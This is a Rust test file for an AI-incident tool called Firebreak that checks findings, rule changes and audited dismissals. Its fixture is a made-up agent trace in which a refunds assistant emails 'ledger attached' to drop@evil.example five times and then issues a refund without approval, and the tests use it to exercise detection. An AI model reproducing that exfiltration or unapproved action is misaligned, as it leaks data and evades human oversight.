//! Findings on traces imported the real way: what an owner sees for a conversation that mailed a stranger five
//! times and refunded without approval; the rules changing what is found; dismissals that are audited, refused
//! without a reason, and caught by `verify` when edited outside Firebreak.

mod common;

use common::*;
use firebreak_core::investigation::findings::{self, FindingKind, FindingRules};
use firebreak_core::investigation::{self, ImportOptions};
use firebreak_core::verify::{self, ProblemKind};
use firebreak_core::vocabulary::IncidentType;
use firebreak_core::ErrorCode;
use serde_json::json;

/// An OpenAI chat conversation: five identical sends to an outside address, each answered 503, then a refund with
/// no approval asked for.
fn conversation() -> String {
    let mut messages = vec![
        json!({"role": "system", "content": "You are a refunds assistant."}),
        json!({"role": "user", "content": "Refund order A-1 and tell the customer."}),
    ];
    for i in 0..5 {
        let id = format!("call_s{i}");
        let arguments = json!({"to": "drop@evil.example", "body": "ledger attached", "request_id": format!("r{i}")});
        messages.push(json!({"role": "assistant", "content": null, "tool_calls": [
            {"id": id, "type": "function", "function": {"name": "send_email", "arguments": arguments.to_string()}}
        ]}));
        messages.push(json!({"role": "tool", "tool_call_id": id,
            "content": json!({"error": "SMTP relay refused", "status": 503}).to_string()}));
    }
    let refund = json!({"order_id": "A-1", "amount": 120}).to_string();
    messages.push(json!({"role": "assistant", "content": null, "tool_calls": [
        {"id": "call_r", "type": "function", "function": {"name": "issue_refund", "arguments": refund}}
    ]}));
    messages.push(json!({"role": "tool", "tool_call_id": "call_r", "content": "{\"refund_id\":\"R-1\"}"}));
    format!("{}\n", json!({ "messages": messages }))
}

fn imported(db: &Db) -> String {
    let inc = open_incident(db, "Refund bot mailed a stranger");
    let path = db.outside_file("conversation.jsonl", conversation().as_bytes());
    investigation::import_file(&db.store, &dana(), &inc.id, &path, &ImportOptions::default()).unwrap();
    inc.id
}

fn keys(db: &Db, id: &str) -> Vec<String> {
    findings::findings(&db.store, id).unwrap().findings.into_iter().map(|f| f.key).collect()
}

#[test]
fn an_imported_conversation_shows_its_failures_loop_destination_and_missing_approval() {
    let db = db();
    let id = imported(&db);
    let found = findings::findings(&db.store, &id).unwrap();
    assert!(!found.rules_set);
    assert_eq!(found.steps, 20);
    let kinds: Vec<FindingKind> = found.findings.iter().map(|f| f.kind).collect();
    assert_eq!(
        kinds,
        [FindingKind::OffAllowlist, FindingKind::MissingApproval, FindingKind::FailedToolCalls, FindingKind::RetryLoop]
    );
    let [outside, approval, failed, retry] = &found.findings[..] else { unreachable!() };
    assert_eq!(outside.key, "off_allowlist:evil.example");
    assert_eq!(outside.step_count, 5);
    assert!(outside.suggests.contains(&IncidentType::ExternalSend));
    assert_eq!(approval.key, "missing_approval:issue_refund");
    assert!(failed.detail.contains("HTTP 503 × 5"), "{}", failed.detail);
    assert_eq!(retry.steps, outside.steps, "the five sends are the loop");

    // The steps behind a finding are the steps themselves, to open one by one.
    let steps = findings::finding_steps(&db.store, &id, &approval.key).unwrap();
    assert_eq!(steps.len(), 1);
    assert_eq!(steps[0].step.tool.as_deref(), Some("issue_refund"));
    assert!(steps[0].step.arguments.as_deref().unwrap().contains("A-1"));
}

#[test]
fn the_incidents_rules_change_the_findings_at_once_and_are_audited() {
    let db = db();
    let id = imported(&db);
    let rules = FindingRules {
        retry_calls: 6,
        allowed_destinations: vec!["  https://Evil.Example/upload ".into(), "*.corp.example".into(), "".into()],
        approval_tools: vec![],
        ..FindingRules::default()
    };
    let saved = findings::set_rules(&db.store, &dana(), &id, &rules).unwrap();
    assert_eq!(saved.allowed_destinations, ["evil.example", "corp.example"], "a pasted URL is taken as its domain");
    let (read, set) = findings::rules(&db.store, &id).unwrap();
    assert!(set);
    assert_eq!(read, saved);
    assert_eq!(keys(&db, &id), ["failed_tool_calls:send_email"], "allowed, ungated and below the loop count");

    findings::set_rules(&db.store, &dana(), &id, &FindingRules::default()).unwrap();
    assert_eq!(keys(&db, &id).len(), 4);
    let conn = db.store.connect().unwrap();
    let changes: i64 = conn
        .query_row("SELECT count(*) FROM audit_log WHERE entity = 'finding_rules' AND field <> '_created'", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert!(changes >= 3, "each changed rule is an audit entry ({changes})");
    assert!(verify::verify(&db.store).unwrap().intact);
}

#[test]
fn rules_out_of_range_or_unmatchable_are_refused_and_the_old_rules_kept() {
    let db = db();
    let id = imported(&db);
    let bad = [
        FindingRules { retry_calls: 1, ..FindingRules::default() },
        FindingRules { retry_minutes: 0, ..FindingRules::default() },
        FindingRules { spike_factor: f64::NAN, ..FindingRules::default() },
        FindingRules { spike_factor: 1.0, ..FindingRules::default() },
        FindingRules { admin_tools: vec!["two words".into()], ..FindingRules::default() },
        FindingRules { approval_tools: vec!["x".repeat(201)], ..FindingRules::default() },
        FindingRules {
            allowed_destinations: (0..501).map(|i| format!("d{i}.example")).collect(),
            ..Default::default()
        },
    ];
    for rules in &bad {
        let err = findings::set_rules(&db.store, &dana(), &id, rules).unwrap_err();
        assert_eq!(err.code(), ErrorCode::InvalidInput, "{rules:?}");
        assert!(!err.to_string().is_empty());
    }
    assert!(!findings::rules(&db.store, &id).unwrap().1, "nothing was saved");
}

#[test]
fn a_dismissal_needs_a_reason_is_audited_can_be_restored_and_an_edit_outside_firebreak_is_found() {
    let db = db();
    let id = imported(&db);
    let key = "failed_tool_calls:send_email";
    let err = findings::dismiss(&db.store, &dana(), &id, key, "  ").unwrap_err();
    assert_eq!(err.code(), ErrorCode::InvalidInput);
    let err = findings::dismiss(&db.store, &dana(), &id, "retry_loop:nothing", "why").unwrap_err();
    assert_eq!(err.code(), ErrorCode::NotFound);
    assert!(err.to_string().contains("trace findings"), "{err}");

    let dismissal = findings::dismiss(&db.store, &dana(), &id, key, "Relay outage <b>known</b>").unwrap();
    assert_eq!(dismissal.dismissed_by, "Dana Reyes");
    let found = findings::findings(&db.store, &id).unwrap();
    let failed = found.findings.iter().find(|f| f.key == key).unwrap();
    assert_eq!(failed.dismissal.as_ref().unwrap().reason, "Relay outage <b>known</b>", "kept as written, as text");
    assert_eq!(found.findings.len(), 4, "a dismissed finding stays listed, marked");
    let again = findings::dismiss(&db.store, &dana(), &id, key, "twice").unwrap_err();
    assert!(again.to_string().contains("already dismissed"), "{again}");

    let restored = findings::restore(&db.store, &dana(), &id, key).unwrap();
    assert_eq!(restored.restored_by.as_deref(), Some("Dana Reyes"));
    assert!(findings::findings(&db.store, &id).unwrap().findings.iter().all(|f| f.dismissal.is_none()));
    assert_eq!(findings::restore(&db.store, &dana(), &id, key).unwrap_err().code(), ErrorCode::InvalidInput);
    // Dismissed again after the restore: a second row, the first kept with its restore.
    findings::dismiss(&db.store, &dana(), &id, key, "Known after all").unwrap();
    assert!(verify::verify(&db.store).unwrap().intact);

    // Someone rewrites the reason in the file: verify names the change.
    outsider(&db).execute("UPDATE finding_dismissals SET reason = 'nothing to see'", []).unwrap();
    let report = verify::verify(&db.store).unwrap();
    assert!(!report.intact);
    assert!(report.problems.iter().any(|p| p.kind == ProblemKind::ValueMismatch && p.message.contains("reason")));
}

#[test]
fn findings_of_an_incident_without_traces_are_none_and_an_unknown_incident_is_not_found() {
    let db = db();
    let inc = open_incident(&db, "No traces yet");
    let found = findings::findings(&db.store, &inc.id).unwrap();
    assert!(found.findings.is_empty());
    assert_eq!(found.steps, 0);
    assert_eq!(findings::findings(&db.store, "AI-INC-2000-0101-999").unwrap_err().code(), ErrorCode::NotFound);
}
